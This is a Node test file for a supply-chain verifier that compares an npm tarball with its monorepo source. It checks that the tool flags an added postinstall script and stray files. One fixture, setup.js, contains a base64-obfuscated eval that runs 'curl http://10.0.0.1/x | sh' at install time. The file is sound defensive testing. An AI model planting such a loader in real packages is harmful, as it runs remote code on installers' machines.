import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { verifyArtifact } from '../../src/app/verify.js';
import { alignLayout } from '../../src/analyzers/artifact/layout.js';
import type { VerifySummary } from '../../src/analyzers/artifact/types.js';
import { cleanup, makeCatalogue, makeRepo, makeTarGz, tempDir, type Content } from './helpers.js';

const pkg = (scripts: Record<string, string>): string =>
  JSON.stringify({ name: 'foo', version: '2.0.0', main: 'dist/index.js', files: ['dist'], scripts }, null, 2);

describe('verify: npm package inside a monorepo', () => {
  let repo: string;
  let work: string;
  let cat: string;
  const REPO: Record<string, Content> = {
    'package.json': '{"private":true}',
    'packages/foo/package.json': pkg({ build: 'tsc' }),
    'packages/foo/src/index.ts': 'export const x = 1;\n',
    'packages/foo/README.md': '# foo\n',
    'packages/bar/package.json': '{}',
  };
  before(() => {
    repo = makeRepo(REPO, 'foo@2.0.0');
    work = tempDir();
    cat = makeCatalogue();
  });
  after(() => cleanup(repo, work, cat));

  test('the package folder is found, build output explained, an added install script and stray file flagged', async () => {
    const tgz = join(work, 'foo-2.0.0.tgz');
    writeFileSync(
      tgz,
      await makeTarGz(
        {
          'package.json': pkg({ build: 'tsc', postinstall: 'node setup.js' }),
          'src/index.ts': 'export const x = 1;\n',
          'README.md': '# foo\n',
          'dist/index.js': 'exports.x = 1;\n',
          'dist/index.d.ts': 'export declare const x: number;\n',
          'setup.js':
            'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovLzEwLjAuMC4xL3ggfCBzaCIp", "base64").toString());\n',
        },
        'package',
      ),
    );
    const r = await verifyArtifact(tgz, { source: repo, cwd: work, catalogueDir: cat });
    const s = Object.values(r.facts['verify']!)[0] as VerifySummary;
    assert.equal(s.source.ref, 'foo@2.0.0');
    assert.match(s.source.prefix, /packages\/foo\/$/);
    assert.equal(s.counts.identical, 2);
    assert.equal(s.explained['npm-build-output'], 2);
    assert.deepEqual(s.unexplained, ['setup.js']);
    assert.equal(s.counts['only-source'], 0, 'files outside the package folder are not counted');
    const scripts = r.findings.find((f) => f.rule === 'artifact/manifest-scripts-changed')!;
    assert.equal(scripts.severity, 'high');
    assert.deepEqual(scripts.evidence[0]!.after, 'node setup.js');
    assert.equal(scripts.evidence[0]!.before, null);
    assert.ok(
      r.findings.some((f) => f.rule === 'artifact/unexplained-file' && f.evidence[0]!.file === 'setup.js' && f.severity === 'medium'),
    );
    assert.ok(
      r.findings.some((f) => f.rule.startsWith('content/') && f.evidence.some((e) => e.file === 'setup.js')),
      'unreviewed files go through the content analyzers',
    );
  });

  test('case-only collisions are reported, never a crash', async () => {
    const tgz = join(work, 'foo-2.0.0-case.tgz');
    writeFileSync(
      tgz,
      await makeTarGz(
        {
          'package.json': pkg({ build: 'tsc' }),
          'src/Index.ts': 'export const x = 1;\n',
          'README.md': '# foo\n',
          'readme.md': '# other\n',
        },
        'package',
      ),
    );
    const r = await verifyArtifact(tgz, { source: repo, cwd: work, catalogueDir: cat, ref: 'foo@2.0.0' });
    const cases = r.findings.filter((f) => f.rule === 'artifact/case-collision');
    assert.ok(cases.some((f) => /src\/Index\.ts matches the source only case-insensitively/.test(f.title)));
    assert.ok(cases.some((f) => /readme\.md collides/.test(f.title)));
  });

  test('alignLayout: artifact with an extra top folder, or a repo sub-folder', () => {
    const repoPaths = new Set(['a/b/x.c', 'a/b/y.c', 'a/z.c', 'top.c']);
    assert.deepEqual(alignLayout(['x.c', 'y.c'], repoPaths), { repoPrefix: 'a/b/', artifactStrip: '', matched: 2 });
    assert.deepEqual(alignLayout(['pkg/top.c', 'pkg/a/z.c'], repoPaths), { repoPrefix: '', artifactStrip: 'pkg/', matched: 2 });
    assert.equal(alignLayout(['top.c', 'a/z.c'], repoPaths).repoPrefix, '');
  });
});
